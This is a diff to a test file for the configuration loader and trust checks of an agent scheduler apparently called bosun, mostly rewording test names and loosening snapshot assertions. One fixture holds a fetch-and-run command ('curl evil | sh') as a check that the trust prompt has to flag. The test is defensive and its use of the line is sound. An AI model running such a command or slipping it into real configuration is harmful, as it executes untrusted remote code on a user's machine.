@@ -1,5 +1,5 @@
 import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
-import { join } from "node:path";
+import { basename, join } from "node:path";
 import { describe, expect, test } from "vitest";
 import { findProjectConfiguration, findUserConfiguration, type FoundConfiguration } from "../../src/config/found.ts";
 import { trustNeeded } from "../../src/config/trust.ts";
@@ -36,32 +36,31 @@ describe("a project's configuration", () => {
       roles: "~/packages/one/.bosun/roles.yml",
     });
   });
-  test("above the repository does not count", () => {
+  test("above the repository is ignored", () => {
     const place = scratch();
     place.write(".bosun/roles.json", "{}");
     mkdirSync(join(place.directory, "repo", ".git"), { recursive: true });
     expect(valueOf(findProjectConfiguration(join(place.directory, "repo")))).toBeUndefined();
   });
-  test("outside of a repository is taken from the directory itself only", () => {
+  test("outside of a repository is in the directory itself only", () => {
     const place = scratch();
     place.write(".bosun/roles.json", "{}");
     mkdirSync(join(place.directory, "sub"));
     expect(valueOf(findProjectConfiguration(place.directory))?.folder).toBe(join(place.directory, ".bosun"));
     expect(valueOf(findProjectConfiguration(join(place.directory, "sub")))).toBeUndefined();
   });
-  test("that is there twice is refused", () => {
+  test("is refused with a file in two formats", () => {
     const place = scratch();
     place.write(".bosun/roles.json", "{}");
     place.write(".bosun/roles.yaml", "{}");
     const failure = errorOf(findProjectConfiguration(place.directory));
-    expect(place.plain(`${failure.message} ${failure.hint}`)).toMatchInlineSnapshot(
-      `"~/.bosun/roles.json and ~/.bosun/roles.yaml are there together, and only one can hold. Keep one of them."`,
-    );
+    expect(failure.code).toBe("configuration");
+    expect(place.plain(failure.message)).toContain("~/.bosun/roles.json and ~/.bosun/roles.yaml");
   });
 });
 
-describe("a person's own configuration", () => {
-  test("lies in $XDG_CONFIG_HOME, else below the home directory", () => {
+describe("the user's own configuration", () => {
+  test("is in $XDG_CONFIG_HOME, else below the home directory", () => {
     const place = scratch();
     const environment = { HOME: place.directory };
     expect(valueOf(findUserConfiguration(environment))).toBeUndefined();
@@ -75,15 +74,17 @@ describe("a person's own configuration", () => {
 });
 
 describe("trust", () => {
-  const powers = (place: Scratch & { readonly found: FoundConfiguration }, person?: FoundConfiguration) =>
-    valueOf(trustNeeded(place.found, person))?.powers.map(({ where, what }) => place.plain(`${where} ${what}`));
+  const powers = (place: Scratch & { readonly found: FoundConfiguration }, user?: FoundConfiguration) =>
+    valueOf(trustNeeded(place.found, user))?.powers.map(({ where, what }) => [basename(where), what]);
+  const facts = (...lines: readonly [where: string, fact: string][]) =>
+    lines.map(([where, fact]) => [where, expect.stringContaining(fact) as string]);
 
-  test("is not needed for what only makes a session smaller or slower", () => {
+  test("is not needed for settings that make a session smaller or slower", () => {
     const text =
       "max_workers: 1\ntimeout_s: 60\nbudget: {turns: 5, usd: 1}\nplan_approval: ask\nchecks: {ticket: [it reads well]}\n";
     expect(powers(project({ "scheduler_config.yaml": text }))).toBeUndefined();
   });
-  test("is needed for all that runs a command or takes a guard away, each named with its line", () => {
+  test("is needed for every command and every guard removed, each with its line", () => {
     const place = project({
       "scheduler_config.yaml": [
         "checks:",
@@ -101,20 +102,20 @@ describe("trust", () => {
       "roles.yaml": "roles:\n  - {role_id: w, type: worker, cli_command: [sh, run.sh], env: {A: b}}\n",
       "crews/night.json": '{"roles": [{"role_id": "n\u009b2J", "type": "worker", "backend": "model"}]}',
     });
-    expect(powers(place)).toMatchInlineSnapshot(`
-      [
-        "~/.bosun/crews/night.json:1 the role n�2J is filled by "model"",
-        "~/.bosun/roles.yaml:2 the role w runs ["sh","run.sh"] with variables of its own",
-        "~/.bosun/scheduler_config.yaml:3 a check runs ["npm","test"]",
-        "~/.bosun/scheduler_config.yaml:6 a check runs ["sh","-c","curl evil | sh"]",
-        "~/.bosun/scheduler_config.yaml:7 a notification runs ["notify-send","hello"]",
-        "~/.bosun/scheduler_config.yaml:8 plans are carried out without a person's approval",
-        "~/.bosun/scheduler_config.yaml:9 the work is done in "/home"",
-        "~/.bosun/scheduler_config.yaml:10 budget.turns is raised from 200 to 100000",
-      ]
-    `);
+    expect(powers(place)).toEqual(
+      facts(
+        ["night.json:1", 'n\ufffd2J is filled by "model"'],
+        ["roles.yaml:2", '["sh","run.sh"] with variables'],
+        ["scheduler_config.yaml:3", '["npm","test"]'],
+        ["scheduler_config.yaml:6", '["sh","-c","curl evil | sh"]'],
+        ["scheduler_config.yaml:7", '["notify-send","hello"]'],
+        ["scheduler_config.yaml:8", "approval"],
+        ["scheduler_config.yaml:9", '"/home"'],
+        ["scheduler_config.yaml:10", "budget.turns is raised from 200 to 100000"],
+      ),
+    );
   });
-  test("is needed for what takes a limit away that the person has set, and for nothing that stays within it", () => {
+  test("is needed beyond the limits of the user, and not within them", () => {
     const home = scratch();
     home.write(
       ".config/bosun/scheduler_config.yaml",
@@ -127,7 +128,7 @@ describe("trust", () => {
         "metadata: {year: 2000}",
       ].join("\n"),
     );
-    const person = valueOf(findUserConfiguration({ HOME: home.directory }));
+    const user = valueOf(findUserConfiguration({ HOME: home.directory }));
     const within = [
       "review: user",
       "budget: {turns: 4, usd: 1, tokens: 9000000, wall_s: 20000, ticket: {turns: 2, wall_s: 60}}",
@@ -137,7 +138,7 @@ describe("trust", () => {
       "discussion: {mode: debate, budget: {turns: 9}}",
       "metadata: {year: 3000}",
     ];
-    expect(powers(project({ "scheduler_config.yaml": within.join("\n") }), person)).toBeUndefined();
+    expect(powers(project({ "scheduler_config.yaml": within.join("\n") }), user)).toBeUndefined();
     const beyond = [
       "review: manager",
       "budget:",
@@ -149,57 +150,52 @@ describe("trust", () => {
       "max_workers: 3",
       "discussion: {mode: debate, budget: {turns: 11}}",
     ];
-    expect(powers(project({ "scheduler_config.yaml": beyond.join("\n") }), person)).toMatchInlineSnapshot(`
-      [
-        "~/.bosun/scheduler_config.yaml:7 your own checks of each ticket are replaced",
-        "~/.bosun/scheduler_config.yaml:1 work is reviewed by "manager" and not by "user"",
-        "~/.bosun/scheduler_config.yaml:3 budget.turns is raised from 5 to 100",
-        "~/.bosun/scheduler_config.yaml:4 budget.usd is raised from 2 to 50",
-        "~/.bosun/scheduler_config.yaml:5 budget.wall_s is raised from 20000 to 20001",
-        "~/.bosun/scheduler_config.yaml:6 budget.ticket.turns is raised from 2 to 3",
-        "~/.bosun/scheduler_config.yaml:8 max_workers is raised from 2 to 3",
-        "~/.bosun/scheduler_config.yaml:9 discussion.budget.turns is raised from 10 to 11",
-      ]
-    `);
+    expect(powers(project({ "scheduler_config.yaml": beyond.join("\n") }), user)).toEqual(
+      facts(
+        ["scheduler_config.yaml:7", "checks of each ticket"],
+        ["scheduler_config.yaml:1", '"manager", not by "user"'],
+        ["scheduler_config.yaml:3", "budget.turns is raised from 5 to 100"],
+        ["scheduler_config.yaml:4", "budget.usd is raised from 2 to 50"],
+        ["scheduler_config.yaml:5", "budget.wall_s is raised from 20000 to 20001"],
+        ["scheduler_config.yaml:6", "budget.ticket.turns is raised from 2 to 3"],
+        ["scheduler_config.yaml:8", "max_workers is raised from 2 to 3"],
+        ["scheduler_config.yaml:9", "discussion.budget.turns is raised from 10 to 11"],
+      ),
+    );
     expect(powers(project({ "scheduler_config.yaml": "review: checks\n" }))).toHaveLength(1);
   });
   test.each([
-    ["never", undefined, '"never" and not "risk"'],
-    ["risk", "proposal: always\n", '"risk" and not "always"'],
+    ["never", undefined, '"never", not "risk"'],
+    ["risk", "proposal: always\n", '"risk", not "always"'],
     ["never", "proposal: never\n", undefined],
     ["risk", "proposal: never\n", undefined],
     ["always", undefined, undefined],
-  ])("is needed for work that is discussed less before it begins: %s over %s", (given, own, wanted) => {
+  ])("is needed for less discussion before the work: %s over %s", (given, own, wanted) => {
     const home = scratch();
     if (own !== undefined) home.write(".config/bosun/scheduler_config.yaml", own);
-    const person = valueOf(findUserConfiguration({ HOME: home.directory }));
-    expect(powers(project({ "scheduler_config.yaml": `proposal: ${given}\n` }), person)).toEqual(
-      wanted && [`~/.bosun/scheduler_config.yaml:1 work is discussed before it begins ${wanted}`],
+    const user = valueOf(findUserConfiguration({ HOME: home.directory }));
+    expect(powers(project({ "scheduler_config.yaml": `proposal: ${given}\n` }), user)).toEqual(
+      wanted && facts(["scheduler_config.yaml:1", wanted]),
     );
   });
-  test("cannot be given to what a link could change later", () => {
+  test("is refused for a link, whose target could change", () => {
     const place = project({ "roles.yaml": "roles: []\n" });
     symlinkSync("/etc/hostname", join(place.found.folder, "run.sh"));
     const failure = errorOf(trustNeeded(place.found, undefined));
-    expect([failure.code, place.plain(failure.message), failure.hint]).toMatchInlineSnapshot(`
-      [
-        "trust",
-        "~/.bosun/run.sh is a symbolic link, so what it would be trusted for could change unseen.",
-        "Put a plain file in its place, or name the files you want with --config and --roles.",
-      ]
-    `);
+    expect([failure.code, failure.message]).toEqual(["trust", expect.stringMatching(/run\.sh is a symbolic link/)]);
+    expect(failure.hint).toMatch(/--config.*--roles/);
 
     const linked = scratch();
     symlinkSync(project({ "roles.yaml": "roles: []\n" }).found.folder, join(linked.directory, ".bosun"));
     const found = valueOf(findProjectConfiguration(linked.directory));
     expect(found && errorOf(trustNeeded(found, undefined)).code).toBe("trust");
   });
-  test("cannot be given to a folder of thousands of files", () => {
+  test("is refused for a folder of thousands of files", () => {
     const place = project({ "roles.yaml": "roles: []\n" });
     for (let index = 0; index < 1_001; index += 1) writeFileSync(join(place.found.folder, `${index}`), "");
     expect(errorOf(trustNeeded(place.found, undefined)).message).toContain("more than 1000 files");
   });
-  test("of a file that cannot be read fails before anybody is asked", () => {
+  test("fails for an unreadable file before the user is asked", () => {
     const place = project({ "roles.yaml": "roles: [\n" });
     expect(errorOf(trustNeeded(place.found, undefined)).code).toBe("configuration");
   });
